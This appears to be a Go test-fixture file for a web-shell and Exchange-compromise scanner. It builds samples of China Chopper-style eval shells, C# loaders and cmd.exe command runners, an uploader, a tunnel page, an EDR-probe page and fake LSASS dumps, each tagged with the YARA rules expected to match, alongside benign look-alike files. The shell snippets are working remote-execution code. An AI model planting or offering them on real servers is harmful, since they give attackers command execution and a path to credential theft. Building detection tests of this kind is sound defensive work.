package files

import (
	"bytes"
	"math/rand"
	"strings"
)

// Realistic samples of the campaigns' web shells and artefacts, and benign
// files that look like them. Shell texts follow the published samples
// (Microsoft, Volexity, CISA MARs) with the edits seen in the wild.

func crlf(s string) []byte { return []byte(strings.ReplaceAll(s, "\n", "\r\n")) }

func utf16le(s string) []byte {
	var b []byte
	for _, r := range s {
		b = append(b, byte(r), byte(r>>8))
	}
	return b
}

// oabDump is the OAB virtual directory settings file CVE-2021-27065 writes
// (Set-OabVirtualDirectory -ExternalUrl with script, then a reset that
// exports the settings to a path of the attacker's choosing).
func oabDump(server, script string) []byte {
	return crlf(`Name                            : OAB (Default Web Site)
PollInterval                    : 480
OfflineAddressBooks             :
RequireSSL                      : True
BasicAuthentication             : False
WindowsAuthentication           : True
OAuthAuthentication             : False
MetabasePath                    : IIS://` + server + `.contoso.com/W3SVC/1/ROOT/OAB
Path                            : C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\OAB
ExtendedProtectionTokenChecking : None
ExtendedProtectionFlags         :
ExtendedProtectionSPNList       :
AdminDisplayVersion             : Version 15.1 (Build 2176.2)
Server                          : ` + server + `
InternalUrl                     : https://` + strings.ToLower(server) + `.contoso.com/OAB
InternalAuthenticationMethods   : WindowsIntegrated
ExternalUrl                     : ` + script + `
ExternalAuthenticationMethods   : WindowsIntegrated
Identity                        : ` + server + `\OAB (Default Web Site)
WhenChanged                     : 3/4/2021 8:07:21 AM
`)
}

// pstPage is what New-MailboxExportRequest writes: a PST file (magic
// !BDN), whatever its name, with the script PST-permuted inside.
func pstPage(rng *rand.Rand) []byte {
	b := []byte("!BDN")
	b = append(b, 0x8b, 0x5d, 0x1c, 0x15, 0x53, 0x4d, 0x17, 0x00, 0x13, 0x00, 0x01, 0x01)
	body := make([]byte, 270<<10)
	rng.Read(body)
	return append(b, body...)
}

// minidump is a small LSASS minidump: the MDMP header, then the module
// list naming lsass.exe in UTF-16.
func minidump(rng *rand.Rand, process string) []byte {
	b := []byte("MDMP\x93\xa7\x00\x00\x0d\x00\x00\x00\x20\x00\x00\x00")
	pad := make([]byte, 4000)
	rng.Read(pad)
	b = append(b, pad...)
	b = append(b, utf16le(`C:\Windows\System32\`+process)...)
	b = append(b, 0, 0)
	b = append(b, pad[:2000]...)
	return b
}

type sample struct {
	name string // file name; the folder is chosen by the test
	data []byte
	yara []string // the YARA rules that must match, sorted
}

func shellSamples() []sample {
	rng := rand.New(rand.NewSource(2021))
	chopper := `http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["code"],"unsafe");}</script>`
	return []sample{
		{"chopper.aspx", []byte(`<%@ Page Language="Jscript"%><%eval(Request.Item["z9"],"unsafe");%>`),
			[]string{"ChinaChopper_Generic", "EXHUNT_WEBSHELL_Chopper_JScript_Eval"}},
		// spaces, an inline comment and single quotes: the published
		// rules miss it
		{"chopper_edited.aspx", crlf("<%@ Page Language = \"JScript\" Debug=false %>\n<% eval /*x*/ ( Request [ 'k' ] , 'unsafe' ) ; %>\n"),
			[]string{"EXHUNT_WEBSHELL_Chopper_JScript_Eval"}},
		{"chopper_b64.aspx", []byte(`<script language="JScript" runat="server">function Page_Load(){eval(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(Request.Item["cmd"])),"unsafe");}</script>`),
			[]string{"EXHUNT_WEBSHELL_Chopper_JScript_Eval", "WEBSHELL_HAFNIUM_CISA_10328929_01"}},
		{"csharp_loader.aspx", []byte(`<%@ Page Language="C#" ValidateRequest="false" %><%try{System.Reflection.Assembly.Load(Request.BinaryRead(int.Parse(Request.Cookies["psi"].Value))).CreateInstance("c",true,System.Reflection.BindingFlags.Default,null,new object[]{this},null,null);}catch{}%>`),
			[]string{"EXHUNT_WEBSHELL_Chopper_CSharp"}},
		{"csharp_exec.aspx", crlf(`<%@ Page Language="C#" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e) {
  var p = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + Request.Form["c"]) { RedirectStandardOutput = true, UseShellExecute = false });
  Response.Write(p.StandardOutput.ReadToEnd());
}
</script>
`), []string{"EXHUNT_WEBSHELL_Chopper_CSharp"}},
		{"2XJHwN19.aspx", oabDump("EXCH01", chopper),
			[]string{"APT_WEBSHELL_HAFNIUM_Chopper_WebShell", "EXHUNT_WEBSHELL_Chopper_JScript_Eval", "EXHUNT_WEBSHELL_OAB_VirtualDirectory_Dump", "WEBSHELL_CVE_2021_27065_Webshells",
				"WEBSHELL_HAFNIUM_CISA_10328929_01", "WEBSHELL_HAFNIUM_CISA_10328929_02"}},
		{"p433zrwewrvmcv.aspx", pstPage(rng), []string{"EXHUNT_WEBSHELL_ProxyShell_PST_Page"}},
		{"secchecker.aspx", []byte(`<%@ Page Language="C#" %><html><head>
<%if(System.IO.File.Exists("c:\\program files (x86)\\fireeye\\xagt.exe")){Response.Write( "1");}%>
<%if(System.IO.File.Exists("c:\\program files\\crowdstrike\\csfalconservice.exe")){Response.Write( "3");}%></head>`),
			[]string{"APT_WEBSHELL_HAFNIUM_SecChecker_Mar21_1", "EXHUNT_WEBSHELL_EDR_Probe"}},
		{"upload.aspx", []byte(`<%@ Page Language="C#" %><% HttpPostedFile thisFile = Request.Files[0];thisFile.SaveAs(Path.Combine(Request.PhysicalApplicationPath, thisFile.FileName)); %>`),
			[]string{"EXHUNT_WEBSHELL_ASPX_Uploader", "WEBSHELL_ASPX_SimpleSeeSharp"}},
		{"sportsball.aspx", crlf(`<%@ Page Language="C#" Debug="true" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
void Page_Load(object sender, EventArgs e) {
  HttpCookie newcook = new HttpCookie("fqrspt", HttpContext.Current.Request.Form["fqrspt"]);
  newcook.Expires = DateTime.Now.AddDays(1);
  if (!string.IsNullOrEmpty(HttpContext.Current.Request.Form["c"])) {
    System.Diagnostics.Process process = new System.Diagnostics.Process();
    process.StartInfo.FileName = "cmd.exe";
    process.StartInfo.RedirectStandardInput = true;
    process.StartInfo.UseShellExecute = false;
    process.Start();
    process.StandardInput.WriteLine(HttpContext.Current.Request.Form["c"]);
    Result.InnerText = string.Empty;
  }
}
</script>
`), []string{"EXHUNT_WEBSHELL_ASPX_Command_Runner", "WEBSHELL_ASPX_SportsBall"}},
		{"tunnel.aspx", crlf(`<%@ Page Language="C#" EnableSessionState="True"%>
<%@ Import Namespace="System.Net" %>
<%@ Import Namespace="System.Net.Sockets" %>
<%
    String cmd = Request.QueryString.Get("cmd").ToUpper();
    if (cmd == "CONNECT") {
        String target = Request.QueryString.Get("target").ToUpper();
        int port = int.Parse(Request.QueryString.Get("port"));
        IPAddress ip = IPAddress.Parse(target);
        Socket sender = new Socket(ip.AddressFamily, SocketType.Stream, ProtocolType.Tcp);
        sender.Connect(new IPEndPoint(ip, port));
        Response.AddHeader("X-STATUS", "OK");
    } else if (cmd == "DISCONNECT") {
        Response.AddHeader("X-STATUS", "OK");
    } else if (cmd == "FORWARD") {
        Response.AddHeader("X-STATUS", "OK");
    } else if (cmd == "READ") {
        Response.AddHeader("X-STATUS", "FAIL");
        Response.AddHeader("X-ERROR", "no socket");
        Response.AddHeader("X-TARGET", Request.Headers.Get("X-CMD"));
    }
%>
`), []string{"EXHUNT_WEBSHELL_reGeorg_Tunnel"}},
		{"lsass.dmp", minidump(rng, "lsass.exe"), []string{"EXHUNT_LSASS_Minidump"}},
		{"1.dmp", minidump(rng, "lsass.exe"), []string{"EXHUNT_LSASS_Minidump"}},
	}
}

// benignSamples are files Exchange, IIS and Windows keep in the same places.
func benignSamples() []sample {
	rng := rand.New(rand.NewSource(5))
	js := bytes.Repeat([]byte("function a(b){return b&&b.length>0?b.split(','):[];}\n"), 400)
	bin := make([]byte, 300<<10)
	rng.Read(bin)
	return []sample{
		{"logon.aspx", crlf(`<%@ Page language="c#" AutoEventWireup="false" Inherits="Microsoft.Exchange.HttpProxy.Logon" %>
<%@ Import Namespace="System.Web" %>
<!DOCTYPE html>
<html><head><title><%=Strings.GetLocalizedString(Strings.IDs.OutlookWebAccess)%></title>
<script type="text/javascript">function clkLgn(){ document.forms[0].submit(); }</script></head>
<body><form action="/owa/auth.owa" method="POST" name="logonForm"><input id="username" name="username" type="text"/>
<input id="password" name="password" type="password" onfocus="g_fFcs=0"/></form></body></html>
`), nil},
		{"RedirSuiteServiceProxy.aspx", crlf(`<%@ Page Language="C#" AutoEventWireup="true" Inherits="Microsoft.Exchange.HttpProxy.RedirSuiteServiceProxy" %>
`), nil},
		// an admin page that runs a fixed program, with no request input
		{"status.aspx", crlf(`<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object s, EventArgs e) { var p = new System.Diagnostics.Process(); p.StartInfo.FileName = "C:\\Tools\\status.exe"; p.Start(); }
</script>
`), nil},
		// a page that reads the request, with no eval
		{"feedback.aspx", []byte(`<%@ Page Language="JScript" %><% var name = Request.Form("name"); Response.Write(Server.HtmlEncode(name)); %>`), nil},
		{"web.config", crlf(`<?xml version="1.0" encoding="UTF-8"?>
<configuration>
  <system.webServer>
    <handlers><add name="PageHandlerFactory-Integrated" path="*.aspx" verb="GET,HEAD,POST" type="System.Web.UI.PageHandlerFactory" /></handlers>
  </system.webServer>
</configuration>
`), nil},
		{"premium.js", js, nil},
		{"owafont.css", crlf("@font-face{font-family:\"Segoe UI\";src:url(\"segoeui.eot\")}\n.signInBg{background-color:#fff}\n"), nil},
		{"FrameworkConfig.zip", append([]byte("PK\x03\x04"), bin[:4000]...), nil},
		{"data.bin", bin, nil},
		// a crash dump of another process
		{"w3wp.dmp", minidump(rng, "inetsrv\\w3wp.exe"), nil},
		// a PST where PSTs belong, not under a script extension
		{"archive.pst", pstPage(rng), nil},
	}
}
